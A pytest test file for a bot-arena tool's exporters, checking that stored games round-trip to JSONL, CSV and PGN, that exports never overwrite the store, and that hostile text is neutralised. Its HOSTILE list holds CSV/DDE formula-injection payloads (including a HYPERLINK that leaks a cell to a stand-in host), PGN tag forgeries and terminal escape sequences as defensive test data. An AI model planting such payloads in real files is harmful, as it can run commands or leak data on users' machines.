"""Tests of arena.export.formats: every format read back, on real SQLite stores and real games.

The PGN is read back by two independent readers: a tokenizer that follows the PGN standard
(tag pairs, ``{...}`` and ``;`` comments, move numbers, the result token) and a line-based
reader that takes ``[Tag "value"]`` lines as Ordo's does. Both must see exactly the stored games.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import stat
from pathlib import Path

import pytest
from conftest import TESTS_DIR, run_arena
from factories import make_record
from pgn_readers import PgnGame, read_pgn, read_pgn_lines

from arena.botspec import BotSpec
from arena.errors import ArenaError, StoreError
from arena.export.files import atomic_write
from arena.export.formats import (
    CSV_FIELDS,
    FORMATS,
    export_games,
    write_csv,
    write_jsonl,
    write_pgn,
)
from arena.export.pgn import pgn_string
from arena.limits import SandboxMode, TimeControl
from arena.protocol import shown
from arena.records import GameRecord, Reason
from arena.referee.match import Match, MatchSettings
from arena.rules import Role
from arena.store.database import BotVersion, Store

TESTS = TESTS_DIR
ROOT = TESTS.parent


def make_store(path: Path, records: list[GameRecord], name: str | None = None) -> Path:
    """A store holding ``records`` (slots numbered per pairing), its bots active."""
    with Store.open(path) as store:
        versions = {(r.order, r.order_version) for r in records}
        versions |= {(r.chaos, r.chaos_version) for r in records}
        store.register_bots([BotVersion(n, v, ("python3", f"{n}.py")) for n, v in versions])
        slots: dict[tuple[str, str], int] = {}
        for record in records:
            slot = slots.get((record.order, record.chaos), 0)
            slots[record.order, record.chaos] = slot + 1
            assert store.add_game(record, slot)
        if name is not None:
            store.set_meta("name", name)
    return path


# --- real games ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def played() -> list[GameRecord]:
    """Four real games between two bot processes (a random bot and an instant one)."""
    settings = MatchSettings(
        time_control=TimeControl(move_ms=500, startup_ms=5000), sandbox=SandboxMode.NONE
    )
    a = BotSpec.from_path(ROOT / "bots" / "random", name="random")
    b = BotSpec.from_path(TESTS / "bots" / "instant.py", name="instant")
    with Match(a, b, settings, seed=3, expected_games=4) as match:
        return [match.play(seat) for seat in (0, 1, 0, 1)]


def test_every_format_round_trips_real_games(played: list[GameRecord], tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", played, name="league")
    with Store.open(db, readonly=True) as store:
        stored = list(store.games())
    assert len(stored) == 4

    out = tmp_path / "games.jsonl"
    assert export_games(db, "jsonl", out) == 4
    assert [GameRecord.from_json(json.loads(line)) for line in out.read_text().splitlines()] == (
        stored
    )

    assert export_games(db, "csv", tmp_path / "games.csv") == 4
    with (tmp_path / "games.csv").open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert tuple(rows[0]) == CSV_FIELDS
    for row, record in zip(rows, stored, strict=True):
        check_csv_row(row, record)

    assert export_games(db, "pgn", tmp_path / "games.pgn") == 4
    text = (tmp_path / "games.pgn").read_bytes().decode()
    games = read_pgn(text)
    for number, (game, record) in enumerate(zip(games, stored, strict=True), 1):
        check_pgn_game(game, record, number, event="league")
    assert [g[2] for g in read_pgn_lines(text)] == [g.result for g in games]


def test_a_pgn_games_round_is_its_number_in_the_store(
    played: list[GameRecord], tmp_path: Path
) -> None:
    """``[Round "N"]`` is what ``arena replay DB N`` takes, even where the numbers have gaps."""
    db = make_store(tmp_path / "t.sqlite", played, name="league")
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM games WHERE id = (SELECT MIN(id) FROM games)")
    conn.close()
    with Store.open(db, readonly=True) as store:
        numbered = list(store.numbered_games())
    assert len(numbered) == 3 and numbered[0][0] != 1
    assert export_games(db, "pgn", tmp_path / "games.pgn") == 3
    games = read_pgn((tmp_path / "games.pgn").read_text())
    for game, (number, record) in zip(games, numbered, strict=True):
        check_pgn_game(game, record, number, event="league")


def test_jsonl_and_csv_rows_carry_the_games_number_in_the_store(
    played: list[GameRecord], tmp_path: Path
) -> None:
    """Each row's ``game`` is what ``arena replay DB N``, ``arena faults`` and PGN's Round give."""
    db = make_store(tmp_path / "t.sqlite", played)
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM games WHERE id = (SELECT MIN(id) FROM games)")
    conn.close()
    with Store.open(db, readonly=True) as store:
        numbers = [number for number, _ in store.numbered_games()]
    assert numbers[0] != 1
    assert export_games(db, "jsonl", tmp_path / "g.jsonl") == 3
    lines = (tmp_path / "g.jsonl").read_text().splitlines()
    assert [json.loads(line)["game"] for line in lines] == numbers
    assert all(line.startswith('{"game":') for line in lines)
    assert export_games(db, "csv", tmp_path / "g.csv") == 3
    with open(tmp_path / "g.csv", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [int(row["game"]) for row in rows] == numbers
    assert next(csv.reader(io.StringIO((tmp_path / "g.csv").read_text())))[0] == "game"
    replayed = run_arena("replay", db, str(numbers[0]))
    assert replayed.stdout.startswith(f"game {numbers[0]}: {rows[0]['order']} (Order)")


def check_csv_row(row: dict[str, str], record: GameRecord) -> None:
    data = record.to_json()
    assert row["moves"].split() == record.moves
    assert row["opening"].split() == record.opening
    assert [float(t) for t in row["ms"].split()] == pytest.approx(record.ms)
    for name in CSV_FIELDS:
        if name not in ("moves", "ms", "opening", "game"):
            assert row[name] == str(data[name]), name


def check_pgn_game(game: PgnGame, record: GameRecord, number: int, event: str) -> None:
    result = "1-0" if record.winner is Role.ORDER else "0-1"
    assert game.tags["Event"] == event
    assert game.tags["Round"] == str(number)
    assert game.tags["White"] == record.order
    assert game.tags["Black"] == record.chaos
    assert game.tags["Result"] == result == game.result
    assert game.tags["Termination"] == record.reason.value
    assert game.tag_order[:7] == ["Event", "Site", "Date", "Round", "White", "Black", "Result"]
    assert game.moves == record.moves
    if record.opening:
        assert game.tags["SetUp"] == "1"
        assert game.tags["Opening"].split() == record.opening
    else:
        assert "SetUp" not in game.tags and "Opening" not in game.tags


def test_games_from_an_opening_start_from_its_position(tmp_path: Path) -> None:
    records = [
        make_record(opening=["a1X", "b2O", "f6X"], moves=["c3O", "d4X"], ms=[1.0, 2.0]),
        make_record("beta", "alpha", opening=["a1X", "b2O"], moves=["c3X"], ms=[1.0]),
        make_record(seed=3, opening=[]),
    ]
    db = make_store(tmp_path / "t.sqlite", records)
    with Store.open(db, readonly=True) as store:
        assert [g.opening for g in store.games()] == [r.opening for r in records]

    export_games(db, "pgn", tmp_path / "g.pgn")
    text = (tmp_path / "g.pgn").read_bytes().decode()
    for number, (game, record) in enumerate(zip(read_pgn(text), records, strict=True), 1):
        check_pgn_game(game, record, number, "arena")
    assert "2... c3O 3. d4X 1-0" in text  # the opening's 3 plies are 1. a1X b2O 2. f6X
    assert "2. c3X 1-0" in text

    export_games(db, "csv", tmp_path / "g.csv")
    with (tmp_path / "g.csv").open(newline="") as f:
        assert [row["opening"] for row in csv.DictReader(f)] == ["a1X b2O f6X", "a1X b2O", ""]

    export_games(db, "jsonl", tmp_path / "g.jsonl")
    lines = (tmp_path / "g.jsonl").read_text().splitlines()
    assert [json.loads(line)["opening"] for line in lines] == [r.opening for r in records]


def test_a_damaged_move_is_a_clean_error(tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", [make_record(moves=['} [Result "1-0"]'], ms=[1.0])])
    with pytest.raises(ArenaError, match="is not a move"):
        export_games(db, "pgn", tmp_path / "g.pgn")
    assert not (tmp_path / "g.pgn").exists()


@pytest.mark.parametrize("format", FORMATS)
def test_counts_and_stdout(format: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    records = [make_record(seed=i) for i in range(5)] + [make_record("beta", "alpha")]
    db = make_store(tmp_path / "t.sqlite", records)
    assert export_games(db, format) == 6
    text = capsys.readouterr().out
    if format == "jsonl":
        assert len(text.splitlines()) == 6
    elif format == "csv":
        assert len(list(csv.reader(io.StringIO(text)))) == 7
    else:
        assert len(read_pgn(text)) == 6


@pytest.mark.parametrize("format", FORMATS)
def test_empty_store_exports_no_game(format: str, tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", [])
    out = tmp_path / f"empty.{format}"
    assert export_games(db, format, out) == 0
    text = out.read_bytes().decode()
    assert text == (",".join(CSV_FIELDS) + "\r\n" if format == "csv" else "")


def test_writers_count_what_they_write() -> None:
    records = [make_record(seed=i) for i in range(3)]
    for writer in (write_jsonl, write_csv, write_pgn):
        out = io.StringIO()
        assert writer(iter(records), out) == 3


def test_only_active_versions_are_exported(tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", [make_record(), make_record("beta", "alpha")])
    with Store.open(db) as store:
        store.register_bots(
            [BotVersion("alpha", "alpha-v2", ("a",)), BotVersion("beta", "beta-v1", ("b",))]
        )
        store.add_game(make_record(order_version="alpha-v2", seed=99), 0)
    out = tmp_path / "games.jsonl"
    assert export_games(db, "jsonl", out) == 1
    (line,) = out.read_text().splitlines()
    assert json.loads(line)["seed"] == 99


def test_unknown_format_and_unwritable_output(tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", [make_record()])
    with pytest.raises(ArenaError, match="unknown export format 'xml'"):
        export_games(db, "xml")
    with pytest.raises(ArenaError, match="cannot write") as caught:
        export_games(db, "csv", tmp_path / "no" / "such" / "dir" / "x.csv")
    assert "\n" not in str(caught.value)


# --- the output never destroys the store, and is written whole or not at all ---------------------


def test_cli_export_over_its_own_store_is_refused(tmp_path: Path) -> None:
    db = make_store(tmp_path / "self.sqlite", [make_record(seed=i) for i in range(3)])
    before = db.read_bytes()
    result = run_arena(
        "export", "self.sqlite", "--format", "csv", "--out", "self.sqlite", cwd=tmp_path
    )
    assert result.returncode != 0
    assert result.stdout == ""
    (line,) = result.stderr.splitlines()
    assert "refusing to write self.sqlite" in line and "store" in line
    assert db.read_bytes() == before
    with Store.open(db, readonly=True) as store:
        assert store.count_games() == 3


@pytest.mark.parametrize(
    "spelling", ["same", "relative", "dotted", "symlink", "hardlink", "wal", "shm", "symlink-wal"]
)
def test_export_refuses_every_spelling_of_the_store(
    spelling: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    db = make_store(folder / "t.sqlite", [make_record(seed=i) for i in range(3)])
    with Store.open(db) as writer:  # a writer keeps the -wal and -shm files in existence
        assert (folder / "t.sqlite-wal").exists()
        monkeypatch.chdir(tmp_path)
        out = {
            "same": db,
            "relative": Path("results/t.sqlite"),
            "dotted": Path("results/../results/./t.sqlite"),
            "symlink": tmp_path / "link.csv",
            "hardlink": tmp_path / "hard.csv",
            "wal": folder / "t.sqlite-wal",
            "shm": Path("results/t.sqlite-shm"),
            "symlink-wal": tmp_path / "wal-link",
        }[spelling]
        if spelling.startswith("symlink"):
            out.symlink_to(folder / ("t.sqlite-wal" if spelling == "symlink-wal" else "t.sqlite"))
        elif spelling == "hardlink":
            os.link(db, out)
        for format in FORMATS:
            with pytest.raises(ArenaError, match="refusing to write") as caught:
                export_games(Path("results/t.sqlite"), format, out)
            assert "\n" not in str(caught.value)
        assert writer.count_games() == 3
        assert writer.add_game(make_record(seed=10), 3)  # the WAL and its index still work
    with Store.open(db, readonly=True) as store:
        assert store.count_games() == 4


@pytest.mark.parametrize("command", ["export", "report"])
@pytest.mark.parametrize("suffix", ["-wal", "-shm", ""])
def test_output_onto_a_file_of_a_store_named_through_a_link_is_refused(
    tmp_path: Path, command: str, suffix: str
) -> None:
    """The store is named through a symlink: its WAL is the real file's, and stays protected."""
    folder = tmp_path / "results"
    folder.mkdir()
    db = make_store(folder / "wal.sqlite", [make_record(seed=i) for i in range(64)])
    (tmp_path / "link.sqlite").symlink_to(db)
    with Store.open(db) as writer:  # a writer keeps the -wal and -shm files in existence
        assert (folder / "wal.sqlite-wal").exists()
        out = folder / f"wal.sqlite{suffix}"
        before = out.read_bytes()
        result = run_arena(command, "link.sqlite", "--out", out, cwd=tmp_path)
        assert result.returncode == 2, result.stdout + result.stderr
        (line,) = result.stderr.splitlines()
        assert "refusing to write" in line
        assert out.read_bytes() == before
        assert writer.count_games() == 64
    with Store.open(db, readonly=True) as store:
        assert store.count_games() == 64


def test_a_failed_export_leaves_the_previous_output(tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", [make_record(seed=i) for i in range(600)])
    out = tmp_path / "games.csv"
    out.write_text("the previous export\n")
    conn = sqlite3.connect(db)  # a game that cannot be read, after more than one batch
    conn.execute("UPDATE games SET moves = 'not json' WHERE seed = 500")
    conn.commit()
    conn.close()
    for format in FORMATS:
        with pytest.raises(StoreError, match="cannot be read"):
            export_games(db, format, out)
        assert out.read_text() == "the previous export\n"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["games.csv", "t.sqlite"]


def test_atomic_write_keeps_the_mode_and_writes_through_symlinks(tmp_path: Path) -> None:
    target = tmp_path / "data.txt"
    target.write_text("old")
    target.chmod(0o640)
    link = tmp_path / "link.txt"
    link.symlink_to(target)
    with atomic_write(link) as out:
        out.write("new")
    assert link.is_symlink() and target.read_text() == "new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    with pytest.raises(KeyboardInterrupt), atomic_write(target) as out:
        out.write("partial")
        raise KeyboardInterrupt
    assert target.read_text() == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data.txt", "link.txt"]


# --- what bots write cannot change an export ----------------------------------------------------

HOSTILE = [
    '} [Result "1-0"]',
    '} 1-0\n\n[Event "x"]\n[White "a"]\n[Black "b"]\n[Result "1-0"]\n\n1-0 {',
    '"]\n[White "forged"]',
    "1-0",
    "{nested {comment}}",
    "%escape at a line start\n% another",
    "; a rest-of-line comment",
    'back\\slash \\" quote \\',
    "\x1b[2J\x1b]0;title\x07 screen and title",
    '\u2028[Result "1-0"]\u2029 line separators',
    '\r[Result "1-0"]\r\n',
    "\u202e bidi override \u200b zero width \ufeff",
    "ünïcödé ✓ 🎲",
    "bad byte \udcff",
    "x" * 5000 + ' [Result "1-0"]',
    "",
    '=HYPERLINK("http://example.invalid/?leak="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

HOSTILE_NAMES = ['quote"and\\backslash', "brackets]and[", 'forged"] [Result "1-0', "new\nline"]


def hostile_records() -> list[GameRecord]:
    """Games that Chaos won because Order faulted, with what bots write at its most hostile."""
    records = []
    for i, text in enumerate(HOSTILE):
        order = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
        records.append(
            make_record(
                order,
                "chaos bot",
                winner=Role.CHAOS,
                reason=Reason.MALFORMED,
                moves=["c4X", "a1O", "c3X"][: i % 4],
                ms=[1.0, 2.0, 3.0][: i % 4],
                detail=text,
                stderr_order=text,
                stderr_chaos=text[::-1],
                seed=i,
            )
        )
    return records


def visible(name: str) -> str:
    """What a PGN string shows for a name: non-printing characters as escapes."""
    return name.replace("\n", "\\x0a")


def as_text_cell(text: str) -> str:
    """A CSV cell as the export writes it: what does not print escaped (``protocol.shown``),
    and a formula-like start gets a ``'`` in front."""
    text = re.sub(r";(?=[=+\-@\t\r])", ";'", shown(text))
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def test_csv_cells_that_would_be_formulas_are_text() -> None:
    out = io.StringIO()
    records = [make_record("=cmd", "+x", detail="@SUM(A1:A9)", seed=-5, stderr_order="=1")]
    write_csv(records, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["order"] == "'=cmd" and rows[0]["chaos"] == "'+x"
    assert rows[0]["detail"] == "'@SUM(A1:A9)"
    assert rows[0]["seed"] == "-5"  # a number is a number, not a formula
    assert rows[0]["winner"] == records[0].winner.value
    # Where a spreadsheet splits cells on ';' (its list separator in many locales), no cell of
    # its own starts a formula: a ';' before one is followed by a "'" too.
    out = io.StringIO()
    write_csv([make_record("x;=cmd|' /C calc'!A0", "b", detail="late; -1 ms;@x")], out)
    for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";"):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["order"] == "x;'=cmd|' /C calc'!A0" and row["detail"] == "late; -1 ms;'@x"


def test_hostile_text_changes_nothing_in_any_export(tmp_path: Path) -> None:
    db = make_store(tmp_path / "t.sqlite", hostile_records(), name='league "2" \\ [Result "1-0"]')
    with Store.open(db, readonly=True) as store:
        stored = list(store.games())
    assert len(stored) == len(HOSTILE)

    assert export_games(db, "pgn", tmp_path / "g.pgn") == len(HOSTILE)
    text = (tmp_path / "g.pgn").read_bytes().decode()
    games = read_pgn(text)
    assert len(games) == len(stored)
    for number, (game, record) in enumerate(zip(games, stored, strict=True), 1):
        assert game.tags["Event"] == 'league "2" \\ [Result "1-0"]'
        assert game.tags["White"] == visible(record.order)
        assert game.tags["Black"] == record.chaos
        assert game.tags["Result"] == game.result == "0-1"
        assert game.moves == record.moves
        assert len(game.comments) == (1 if record.detail else 0)
        assert game.tags["Round"] == str(number)
    # Ordo does not unescape (and cuts a name at its first '"]'), but every result is right.
    ordo = read_pgn_lines(text)
    assert ordo == [(pgn_string(r.order).split('"]')[0], r.chaos, "0-1") for r in stored]
    for line in text.split("\n"):
        assert not re.match(r"\s*[%\[]", line) or re.fullmatch(
            r'\[[A-Za-z]+ "(?:[^"\\]|\\.)*"\]', line
        )
        assert "\r" not in line and "\x1b" not in line

    assert export_games(db, "csv", tmp_path / "g.csv") == len(HOSTILE)
    with (tmp_path / "g.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [row["detail"] for row in rows] == [as_text_cell(r.detail) for r in stored]
    assert [row["order"] for row in rows] == [as_text_cell(r.order) for r in stored]
    for row in rows:  # what a spreadsheet would take for a formula is marked as text
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    assert export_games(db, "jsonl", tmp_path / "g.jsonl") == len(HOSTILE)
    lines = (tmp_path / "g.jsonl").read_text(encoding="utf-8").splitlines()
    assert [GameRecord.from_json(json.loads(line)) for line in lines] == stored
    assert all(line.isascii() for line in lines)


def test_a_real_bot_writing_pgn_cannot_forge_a_result(tmp_path: Path) -> None:
    """A bot that replies with PGN syntax loses every game; the export says so, to Ordo too."""
    forger = tmp_path / "forger.py"
    forger.write_text(
        "import sys\n"
        "for line in sys.stdin:\n"
        "    if line.startswith('arena'):\n"
        "        print('ready forger', flush=True)\n"
        "    elif line.startswith('turn'):\n"
        '        sys.stderr.write(\'} [Result "1-0"]\\n[White "x"]\\n\')\n'
        "        print('} [Result \"1-0\"] {', flush=True)\n"
        "    elif line.startswith('quit'):\n"
        "        break\n"
    )
    settings = MatchSettings(
        time_control=TimeControl(move_ms=500, startup_ms=5000), sandbox=SandboxMode.NONE
    )
    a = BotSpec.from_path(forger, name="forger")
    b = BotSpec.from_path(TESTS / "bots" / "instant.py", name="instant")
    with Match(a, b, settings, seed=1, expected_games=4) as match:
        records = [match.play(seat) for seat in (0, 1, 0, 1)]
    assert all(r.loser_name == "forger" and r.reason is Reason.MALFORMED for r in records)
    assert any("[Result" in r.detail for r in records)
    db = make_store(tmp_path / "t.sqlite", records)
    out = tmp_path / "g.pgn"
    export_games(db, "pgn", out)
    text = out.read_bytes().decode()
    expected = [
        ("instant", "forger", "1-0") if r.order == "instant" else ("forger", "instant", "0-1")
        for r in records
    ]
    assert read_pgn_lines(text) == expected
    assert [(g.tags["White"], g.tags["Black"], g.result) for g in read_pgn(text)] == expected


# --- a store is a file someone may send you: what it holds reaches no terminal raw --------------
HOSTILE_NAME = "evil\x1b]0;pwned\x07\x1b[2J\u202e"


@pytest.mark.parametrize(
    "command",
    [
        ["ratings"],
        ["ratings", "--wide"],
        ["faults"],
        ["faults", "--bot", "nobody"],
        ["replay"],
        ["replay", "2"],
        ["replay", "2", "--ply", "3"],
        ["export", "--format", "csv"],
    ],
)
def test_stored_names_reach_the_terminal_and_csv_escaped(
    tmp_path: Path, command: list[str]
) -> None:
    records = [
        make_record(HOSTILE_NAME, "beta"),
        make_record("beta", HOSTILE_NAME, reason=Reason.CRASH, detail="bye\x1b[2J"),
    ]
    db = make_store(tmp_path / "h.sqlite", records)
    result = run_arena(command[0], db, *command[1:], cwd=tmp_path)
    output = result.stdout + result.stderr
    assert "evil\\x1b]0;pwned\\x07\\x1b[2J\\u202e" in output, output
    for raw in ("\x1b", "\x07", "\u202e"):
        assert raw not in output


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("moves", '["zz9"]'),
        ("moves", "[1]"),
        ("opening", '["c4X", "no"]'),
        ("started_at", "yesterday"),
        ("finished_at", "soon"),
        ("detail", b"\xff\x1b[2J"),
        ("ms", '["fast"]'),
        ("seed", "seven"),
    ],
)
@pytest.mark.parametrize(
    "command", [["report", "--out", "r.html"], ["export", "--format", "pgn", "--out", "g.pgn"]]
)
def test_a_damaged_game_in_the_store_is_one_line(
    tmp_path: Path, column: str, value: object, command: list[str]
) -> None:
    db = make_store(tmp_path / "d.sqlite", [make_record(seed=i) for i in range(3)])
    with sqlite3.connect(db) as conn:
        conn.execute(f"UPDATE games SET {column} = ? WHERE id = 2", (value,))
    conn.close()
    result = run_arena(command[0], db, *command[1:], cwd=tmp_path)
    assert result.returncode == 2, result.stdout + result.stderr
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"arena: error: {db}: ") and "game 2" in line, line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["d.sqlite"]  # nothing written
